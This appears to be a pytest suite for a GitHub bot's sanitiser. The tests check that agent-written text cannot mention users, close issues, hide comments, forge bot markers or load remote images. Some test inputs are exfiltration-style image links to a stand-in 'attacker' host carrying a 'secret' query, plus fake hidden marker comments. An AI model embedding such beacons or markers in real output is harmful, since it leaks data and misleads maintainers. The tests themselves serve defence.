"""`neutralise`: what the agent wrote cannot ping, close, hide or load anything on GitHub."""

import re

import pytest

from bot import markers, pr_body
from bot.sanitize import code_fence, code_span, neutralise, neutralise_line
from bot.worklog import WorkLogEntry, render_entry_body

LIVE_MENTION = re.compile(r"(?<![`\w])@[A-Za-z0-9][\w/-]*(?!`)")


def test_mentions_become_inline_code():
    assert (neutralise("Thanks @octocat and @acme/everyone, and @x.")
            == "Thanks `@octocat` and `@acme/everyone`, and `@x`.")


def test_email_addresses_are_not_mentions():
    assert neutralise("Mail ops@example.com or a.b+c@d.io") == "Mail ops@example.com or a.b+c@d.io"


@pytest.mark.parametrize(("written", "shown"), [
    ("fixes other/repo#2", "fixes `other/repo#2`"),
    ("Closes #7", "Closes `#7`"),
    ("resolves https://github.com/o/r/issues/3", "resolves `https://github.com/o/r/issues/3`"),
    ("FIXED: #9", "FIXED: `#9`"),
    ("close #1, closed #2, resolved #3, Resolve: #4, fix GH-5", "close `#1`, closed `#2`, resolved `#3`, Resolve: `#4`, fix `GH-5`"),
])
def test_closing_references_become_inline_code(written, shown):
    assert neutralise(written) == shown


def test_a_plain_reference_stays_a_reference():
    assert neutralise("See #12 and prefixes #3") == "See #12 and prefixes #3"


def test_the_bots_own_closing_keyword_survives_in_the_pull_request():
    entry = neutralise("### Task Summary\nDone. Closes #7, fixes acme/other#1.\n")
    body = pr_body.render_body(entry_body=entry, footer="f", marker_kind="issue-42", closes=42)
    assert "Closes `#7`" in body and "fixes `acme/other#1`" in body
    assert re.findall(r"(?im)^closes #\d+$", body) == ["Closes #42"]
    assert pr_body.closes_of(body) == 42


def test_the_bots_own_closing_keyword_is_the_one_read_back_from_its_pull_request():
    # Code in the agent's text is left alone, so its own `Closes #7` line may stay there.
    entry = neutralise("### Task Summary\n```\nCloses #7\n```\n<!-- backend-bot:pr:issue-7 -->")
    body = pr_body.render_body(entry_body=entry, footer="f", marker_kind="issue-42", closes=42)
    assert pr_body.closes_of(body) == 42
    assert markers.pull_request_kind(body) == "issue-42"


def test_no_fence_in_the_entry_can_swallow_the_bots_own_lines():
    entry = neutralise("See:\n```\n````not a closing fence\n```\nDone.")
    body = pr_body.render_body(
        entry_body=render_entry_body(WorkLogEntry(title="t", task_summary=entry)),
        footer="f", marker_kind="issue-42", closes=42)
    before_closes = body.split("\nCloses #42\n")[0]
    assert len(re.findall(r"(?m)^```\s*$", before_closes)) == 2  # its own fence, closed once


def test_comments_and_fake_markers_go():
    text = "Done.<!-- backend-bot:status:job-99 --> <!-- hidden\n\nnote -->\n`<!-- backend-bot:pr:issue-1 -->`"
    out = neutralise(text)
    assert "backend-bot:" not in out and "hidden" not in out and "<!--" not in out.split("`")[0]
    assert out.startswith("Done. ")


def test_images_become_links_and_raw_html_shows_as_text():
    assert (neutralise("![](https://attacker/?q=secret) ![a @b](u)")
            == "[image](https://attacker/?q=secret) [image: a `@b`](u)")
    assert (neutralise('<img src="https://attacker/x.png?d=1" alt="logo"> <b>x</b>')
            == "[image: logo](https://attacker/x.png?d=1) &lt;b>x&lt;/b>")
    assert neutralise("!![a](u)") == "! [image: a](u)"  # never `![` again


def test_code_is_left_as_it_is():
    text = "`@octocat fixes #2 <!-- x --> ![a](u)`\n\n```\n@team closes #3\n<img src=x>\n```\n\n~~~\n@a\n~~~"
    assert neutralise(text) == text


def test_urls_keep_working_without_mentioning():
    assert (neutralise("See https://www.npmjs.com/package/@types/node.")
            == "See https://www.npmjs.com/package/%40types/node.")


SAMPLES = [
    "Thanks @octocat, fixes #2 <!-- x --> ![a](u) <img src=y>",
    "`a`@x and \\@y and &#64;z and @a@b and fixes #2@c",
    "[a](`) @x `",
    "`a\n@x`",
    "<div>\n@x\n</div>",
    "- [ ] do @x\n- [x] ~~~\n@y\n~~~",
    "| a | `b | @c` |\n|---|---|",
    "https://x.com/@u```\\@octo)x@y.com#b",
    "]![``|---|]</pre><div>SECRET``>> ",
]


@pytest.mark.parametrize("text", SAMPLES)
def test_neutralise_is_idempotent_and_leaves_no_live_mention(text):
    once = neutralise(text)
    assert neutralise(once) == once
    prose = re.sub(r"`[^`\n]*`", "", re.sub(r"\\.", "", once))
    assert not LIVE_MENTION.search(prose), once


def test_commit_messages_are_inert_even_inside_code():
    # A commit message is plain text: a closing keyword in it closes whatever surrounds it.
    message = neutralise("Fix it\n\n```\nfixes acme/other#1 for @a\n```\nand `closes #3`", markdown=False)
    assert message == "Fix it\n\n```\nfixes `acme/other#1` for `@a`\n```\nand `closes `#3` `"
    assert neutralise(message, markdown=False) == message


def test_one_line_texts_are_flattened_before_they_are_neutralised():
    assert neutralise_line("Plan:\n~~~\n@team\n~~~") == "Plan: ~~~ `@team` ~~~"


def test_code_fences_and_spans_outlast_the_backticks_inside():
    assert code_fence("a ```` b") == "`````" and code_fence("plain") == "```"
    assert code_span("a `` b") == "```a `` b```" and code_span("`x") == "`` `x ``"
